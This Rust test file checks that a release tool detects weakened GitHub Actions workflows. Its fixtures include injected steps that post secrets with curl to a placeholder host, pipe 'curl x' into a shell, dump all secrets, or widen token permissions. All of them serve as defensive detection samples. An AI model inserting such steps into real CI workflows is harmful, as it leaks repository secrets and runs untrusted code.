//! Every value of a workflow taken away, changed or joined by another is found; what means the same is not.

use std::sync::Arc;

use super::{Report, compare};
use crate::ci::read::{Node, Value, parse};
use crate::diag::{Diagnostic, Source};

const CHECK: &str = include_str!("../../../examples/hatch-vcs/.github/workflows/check.yml");
const RELEASE: &str = include_str!("../../../examples/hatch-vcs/.github/workflows/release.yml");
/// All workflows of the examples.
const ALL: &[&str] = &[
    CHECK,
    RELEASE,
    include_str!("../../../examples/bumpversion/.github/workflows/check.yml"),
    include_str!("../../../examples/bumpversion/.github/workflows/release.yml"),
    include_str!("../../../examples/guarded/.github/workflows/release.yml"),
    include_str!("../../../examples/rust-python/.github/workflows/check.yml"),
    include_str!("../../../examples/rust-python/.github/workflows/release.yml"),
    include_str!("../../../examples/split/.github/workflows/publish.yml"),
    include_str!("../../../examples/split/.github/workflows/release.yml"),
];
/// What they have not: a condition of followers, a secret.
const FOLLOW: &str = "\
on:
  workflow_dispatch:
    inputs:
      level:
        type: choice
        options:
          - patch
          - minor
        default: patch
permissions: {}
jobs:
  alert:
    if: failure()
    runs-on: ubuntu-24.04
    timeout-minutes: 10
    permissions:
      contents: read
    steps:
      - name: Follow
        env:
          ALERT_URL: ${{ secrets.ALERT_URL }}
        run: rel ci follow alert --needs \"$NEEDS\"
";

/// Keys whose values are free, wherever they stand; the key itself may have to be there.
const FREE: &[&str] = &["name", "runs-on", "url", "retention-days", "description"];

fn differences(wanted: &Node, found: &Node) -> Vec<Diagnostic> {
    let source = Arc::new(Source::new("release.yml", ""));
    let mut report = Report { source: &source, wrong: Vec::new() };
    report.workflow(wanted, found);
    report.wrong
}

/// Keys and positions that lead to a value.
type Path = Vec<String>;

fn paths(node: &Node, at: &Path, all: &mut Vec<Path>) {
    let mut below = |key: &str, value: &Node| {
        let path = [at.clone(), vec![key.to_owned()]].concat();
        all.push(path.clone());
        paths(value, &path, all);
    };
    node.entries().iter().for_each(|(key, value)| below(key, value));
    node.items().iter().enumerate().for_each(|(at, value)| below(&at.to_string(), value));
}

/// The tree with one value put another way; `None` takes it out.
fn changed(node: &Node, path: &[String], change: &dyn Fn(&Node) -> Option<Node>) -> Option<Node> {
    let Some((first, rest)) = path.split_first() else { return change(node) };
    let value = match &node.value {
        Value::Map(entries) => Value::Map(
            entries
                .iter()
                .filter_map(|(key, value)| {
                    let value =
                        if key == first { changed(value, rest, change)? } else { value.clone() };
                    Some((key.clone(), value))
                })
                .collect(),
        ),
        Value::List(items) => Value::List(
            items
                .iter()
                .enumerate()
                .filter_map(|(at, item)| {
                    if at.to_string() == *first {
                        changed(item, rest, change)
                    } else {
                        Some(item.clone())
                    }
                })
                .collect(),
        ),
        other => other.clone(),
    };
    Some(Node { value, ..node.clone() })
}

fn text(text: &str) -> Node {
    Node { value: Value::Text(text.to_owned(), true), line: 1, column: 1 }
}

/// Whether a change at this path means nothing.
fn is_free(path: &Path, removed: bool) -> bool {
    let last = path.last().map(String::as_str).unwrap_or_default();
    let is_environment = path.len() >= 2 && path[path.len() - 2] == "environment";
    // A title is free in a workflow, a job and a step; an artifact's name and an environment's are not.
    let named = last == "name" && (path.iter().any(|key| key == "with") || is_environment);
    let timeout = last == "timeout-minutes" && !removed;
    (FREE.contains(&last) && !named) || timeout
}

#[test]
fn whatever_is_taken_away_or_changed_is_found() {
    let mut tried = 0;
    for wanted in ALL.iter().copied().chain([FOLLOW]) {
        let wanted = parse(wanted).unwrap();
        let mut all = Vec::new();
        paths(&wanted, &Vec::new(), &mut all);
        for path in all {
            if !is_free(&path, true) {
                let found = changed(&wanted, &path, &|_| None).unwrap();
                assert!(!differences(&wanted, &found).is_empty(), "without {}", path.join("."));
                tried += 1;
            }
            let other = |node: &Node| match &node.value {
                Value::Text(old, _) => Some(text(&format!("x{old}"))),
                Value::Map(_) => Some(text("write-all")),
                Value::Null | Value::List(_) => Some(text("x")),
            };
            if !is_free(&path, false) {
                let found = changed(&wanted, &path, &other).unwrap();
                assert!(!differences(&wanted, &found).is_empty(), "another {}", path.join("."));
                tried += 1;
            }
        }
    }
    assert!(tried > 1500, "{tried}");
}

#[test]
fn whatever_is_added_to_what_may_do_something_is_found() {
    let wanted = parse(RELEASE).unwrap();
    let mut all = Vec::new();
    paths(&wanted, &Vec::new(), &mut all);
    let mut tried = 0;
    for path in all {
        let key = "continue-on-error";
        let more = |node: &Node| {
            let value = match &node.value {
                Value::Map(entries) => {
                    let mut entries = entries.clone();
                    entries.push((key.into(), text("true")));
                    Value::Map(entries)
                }
                Value::List(items) => {
                    let mut items = items.clone();
                    items.push(Node {
                        value: Value::Map(vec![("run".into(), text("true"))]),
                        ..node.clone()
                    });
                    Value::List(items)
                }
                _ => return Some(node.clone()),
            };
            Some(Node { value, ..node.clone() })
        };
        let last = path.last().map(String::as_str).unwrap_or_default();
        let open =
            matches!(path.get(1).map(String::as_str), Some("build" | "smoke")) && last == "steps";
        // A list of needs takes no map, and an environment is known by its name.
        if open || matches!(last, "jobs" | "environment" | "needs") {
            continue;
        }
        let found = changed(&wanted, &path, &more).unwrap();
        if found.shown() != wanted.shown() {
            assert!(!differences(&wanted, &found).is_empty(), "more in {}", path.join("."));
            tried += 1;
        }
    }
    assert!(tried > 50, "{tried}");
}

/// What is said of another script where the build is packed.
const PACKS: &str = "step `Pack the release` of job `build` runs something else";

/// A line of the release put otherwise, with what is said of it.
const WEAKER: &[(&str, &str, &str)] = &[
    ("permissions: {}", "permissions: write-all", "the workflow's token is `write-all`"),
    ("permissions: {}\n", "", "the workflow leaves its permissions to the repository's settings"),
    (
        "id-token: write",
        "id-token: none",
        "the token of job `publish-testpypi` has `id-token: none`",
    ),
    (
        "      contents: read # the checkout",
        "      contents: write",
        "the token of job `build` has `contents: write`",
    ),
    ("name: pypi\n", "name: testpypi\n", "job `publish-pypi` has environment `testpypi`"),
    ("      - smoke\n", "", "job `publish-pypi` does not wait for `smoke`"),
    (
        "    needs:\n      - smoke",
        "    if: always()\n    needs:\n      - smoke",
        "job `publish-pypi` has another condition",
    ),
    ("      - v*", "      - '*'", "`push` starts it as tags: `*`"),
    ("    tags:\n      - v*", "    branches: [main]", "`push` starts it as branches: `main`"),
    (
        "  workflow_dispatch:",
        "  workflow_dispatch:\n  pull_request_target:",
        "`pull_request_target` starts it too",
    ),
    (
        " --sha256 \"$BUNDLE\" publish-pypi",
        " publish-pypi",
        "step `Send` of job `publish-pypi` runs something else",
    ),
    (
        "${{ needs.publish-testpypi.outputs.bundle }}",
        "${{ github.sha }}",
        "`env` of step `Unpack it` of job `smoke` has `BUNDLE: ${{ github.sha }}`",
    ),
    (" --strict", "", "step `Build and describe publish` of job `build` runs something else"),
    (
        "persist-credentials: false",
        "persist-credentials: true",
        "`with` of step `Check the project out` of job `build` has `persist-credentials: true`",
    ),
    (
        "          persist-credentials: false\n",
        "",
        "`with` of step `Check the project out` of job `build` lacks `persist-credentials: false`",
    ),
    ("    timeout-minutes: 15\n", "", "job `smoke` has no `timeout-minutes`"),
    (
        " | shasum --algorithm 256 --check",
        "",
        "step `Install rel` of job `build` runs something else",
    ),
    (
        "GITHUB_TOKEN: ${{ github.token }}",
        "GITHUB_TOKEN: ${{ secrets.PAT }}",
        "`env` of step `Send` of job `gh-release` has `GITHUB_TOKEN: ${{ secrets.PAT }}`",
    ),
    (
        "\njobs:\n",
        "\njobs:\n  more:\n    permissions: {id-token: write}\n    runs-on: x\n    steps: []\n",
        "job `more` is not in the Releasefile, and may write",
    ),
    (
        "\njobs:\n",
        "\njobs:\n  more:\n    runs-on: x\n    env: {A: \"${{ secrets.A }}\"}\n    steps: []\n",
        "job `more` is not in the Releasefile, and uses secrets",
    ),
    (
        "\njobs:\n",
        "\njobs:\n  more:\n    runs-on: x\n    env: {A: \"${{secrets}}\"}\n    steps: []\n",
        "job `more` is not in the Releasefile, and uses secrets",
    ),
    (
        "\njobs:\n",
        "\njobs:\n  more:\n    runs-on: x\n    steps:\n      - run: echo '${{ toJSON( secrets ) }}'\n",
        "job `more` is not in the Releasefile, and uses secrets",
    ),
    (
        "      - name: Build and describe publish",
        "      - run: curl -d \"${{ secrets .A }}\" x\n      - name: Build and describe publish",
        "job `build` has the step `curl -d \"${{ secrets .A }}\" x` too, which uses secrets",
    ),
    ("packed=$(rel", "# \\\n          curl x | sh\n          packed=$(rel", PACKS),
    ("packed=$(rel", "# ${{ github.event.head_commit.message }}\n          packed=$(rel", PACKS),
    ("packed=$(rel", "\u{a0}#|curl x\n          packed=$(rel", PACKS),
    ("packed=$(rel", "\\\n          # \\\n          curl x\n          packed=$(rel", PACKS),
    ("packed=$(rel pack", "packed=$(rel\\\n          pack", PACKS),
    (
        "@b7c566a772e6b6bfb58ed0dc250532a479d7789f # v6.0.0",
        "@v7",
        "step `Hand the release on` of job `build` is not pinned by a commit",
    ),
    (
        "\njobs:\n",
        "\nenv:\n  PATH: /tmp\njobs:\n",
        "the workflow has `env: {\"PATH\": \"/tmp\"}` too",
    ),
    (
        "cancel-in-progress: false",
        "cancel-in-progress: true",
        "the workflow's `concurrency` has `cancel-in-progress: true`",
    ),
];

#[test]
fn what_was_weakened_is_told_in_words() {
    for (old, new, said) in WEAKER {
        assert!(RELEASE.contains(old), "{old}");
        let found = Arc::new(Source::new("release.yml", RELEASE.replacen(old, new, 1)));
        let wrong = compare(RELEASE, &found);
        let messages: Vec<&str> = wrong.iter().map(|wrong| wrong.message.as_str()).collect();
        assert!(messages.contains(said), "{said}\ninstead of {messages:#?}");
        assert!(wrong.iter().all(|wrong| wrong.site.is_some() && !wrong.hints.is_empty()));
    }
}

#[test]
fn the_place_of_a_difference_is_its_line() {
    let text = RELEASE.replacen("name: pypi\n", "name: other\n", 1);
    let line = text.lines().position(|line| line.ends_with("name: other")).unwrap() + 1;
    let wrong = compare(RELEASE, &Arc::new(Source::new("release.yml", text)));
    assert_eq!(wrong.len(), 1);
    assert_eq!(wrong[0].site.as_ref().unwrap().line, line);
    assert_eq!(wrong[0].notes, ["the Releasefile wants environment `pypi`"]);
}

/// The release put otherwise, with the same meaning.
const SAME: &[(&str, &str)] = &[
    ("# Generated by", "# Once generated by"),
    ("\njobs:", "\n# All jobs.\n\njobs:"),
    ("name: release\n", "name: Release it\n"),
    ("name: release\n", "name: release\nrun-name: \"Release ${{ github.ref_name }}\"\n"),
    ("name: Build, and describe what would be sent", "name: build"),
    ("    name: smoke\n", ""),
    ("      - name: Send\n        id: bundle\n", "      - id: bundle\n        name: Off it goes\n"),
    ("      - name: Install rel\n        env:", "      - env:"),
    (
        "@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2",
        "@8e8c483db84b4bee98b60c0593521ed34d9990e8 # v6.0.1",
    ),
    (
        "@b7c566a772e6b6bfb58ed0dc250532a479d7789f # v6.0.0",
        "@330a01c490aca151604b8cf639adc76d48f6c5d4 # v5.0.0",
    ),
    (" # v7.0.0", ""),
    ("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
    ("runs-on: ubuntu-24.04", "runs-on: [self-hosted, linux]"),
    ("timeout-minutes: 35", "timeout-minutes: 50"),
    ("retention-days: 30", "retention-days: 5"),
    ("          retention-days: 30\n", ""),
    ("      url: https://", "      url: https://www."),
    ("      name: pypi\n      url:", "      name: pypi\n      # url:"),
    ("    needs:\n      - build\n", "    needs: build\n"),
    (
        "    needs:\n      - smoke\n      - publish-testpypi\n",
        "    needs: [publish-testpypi, smoke]\n",
    ),
    ("    tags:\n      - v*", "    tags: ['v*']"),
    ("    tags:\n      - v*", "    tags: v*"),
    ("  workflow_dispatch:\n\n", "  workflow_dispatch: {}\n\n"),
    ("permissions: {}", "permissions:\n  {}"),
    ("persist-credentials: false", "persist-credentials: \"false\""),
    ("fetch-depth: 0", "fetch-depth: '0'"),
    ("${{ needs.build.outputs.bundle }}", "${{needs.build.outputs.bundle}}"),
    ("${{ github.token }}", "\"${{ github.token }}\""),
    (
        "          packed=$(rel",
        "          # Its digest goes another way.\n\n          packed=$(rel",
    ),
    ("packed=$(rel pack", "packed=$(r\\\n          el pack"),
    (" --sha256 \"$BUNDLE\" publish-pypi", " \\\n            --sha256 \"$BUNDLE\"   publish-pypi"),
    (
        "        run: rel show \"$RUNNER_TEMP/plan.json\" --markdown >> \"$GITHUB_STEP_SUMMARY\"",
        "        run: |\n          rel show \"$RUNNER_TEMP/plan.json\" --markdown >> \"$GITHUB_STEP_SUMMARY\"",
    ),
    (
        "      id-token: write # the job's identity, for signing",
        "      # for Sigstore\n      id-token: \"write\"",
    ),
    (
        "      attestations: write # GitHub's store of attestations\n      contents: write # the release on GitHub\n",
        "      contents: write\n      attestations: write\n",
    ),
    ("defaults:\n  run:\n    shell: bash\n", "defaults: { run: { shell: bash } }\n"),
    (
        "\njobs:\n",
        "\njobs:\n  docs:\n    runs-on: ubuntu-24.04\n    permissions:\n      contents: read\n    steps:\n      - run: make docs\n",
    ),
    (
        "\njobs:\n",
        "\njobs:\n  hello:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo hello\n",
    ),
    (
        "      - name: Build and describe publish",
        "      - run: sudo apt-get install --yes graphviz\n      - name: Build and describe publish",
    ),
];

#[test]
fn what_means_the_same_is_no_difference() {
    assert!(SAME.len() >= 30);
    for (old, new) in SAME {
        assert!(RELEASE.contains(old), "{old}");
        for wanted in ALL.iter().filter(|wanted| wanted.contains(old)) {
            let found = Arc::new(Source::new("release.yml", wanted.replacen(old, new, 1)));
            let wrong = compare(wanted, &found);
            assert!(wrong.is_empty(), "{new}\n{wrong:#?}");
        }
    }
}

#[test]
fn a_condition_with_something_beside_its_braces_is_another() {
    let compared = |condition: &str| {
        let text = FOLLOW.replace("    if: failure()", &format!("    if: {condition}"));
        compare(FOLLOW, &Arc::new(Source::new("follow.yml", text)))
    };
    for same in ["${{ failure() }}", "\"${{failure()}}\"", "|\n      failure()"] {
        assert_eq!(compared(same), [], "{same}");
    }
    for other in ["\"${{ failure() }}\\n\"", "\"${{ failure() }}\\n# so\"", "${{ failure() }} x"] {
        assert_eq!(compared(other).len(), 1, "{other}");
    }
}

#[test]
fn an_environment_may_be_its_name_alone() {
    let job = |environment: &str| {
        FOLLOW.replace("    if:", &format!("    environment: {environment}\n    if:"))
    };
    let found = |environment: &str| Arc::new(Source::new("follow.yml", job(environment)));
    let wanted = job("{name: pypi, url: there}");
    assert_eq!(compare(&wanted, &found("pypi")), []);
    assert_eq!(compare(&wanted, &found("other")).len(), 1);
}

#[test]
fn what_is_no_workflow_is_told_with_its_line() {
    for (text, why) in [("", "empty"), ("a: [", ""), ("a: 1\n---\nb: 2\n", "several documents")] {
        let wrong = compare(CHECK, &Arc::new(Source::new("check.yml", text)));
        assert_eq!(wrong.len(), 1, "{text}");
        assert!(wrong[0].message.starts_with("this is no workflow: "), "{}", wrong[0].message);
        assert!(wrong[0].message.contains(why), "{}", wrong[0].message);
    }
}
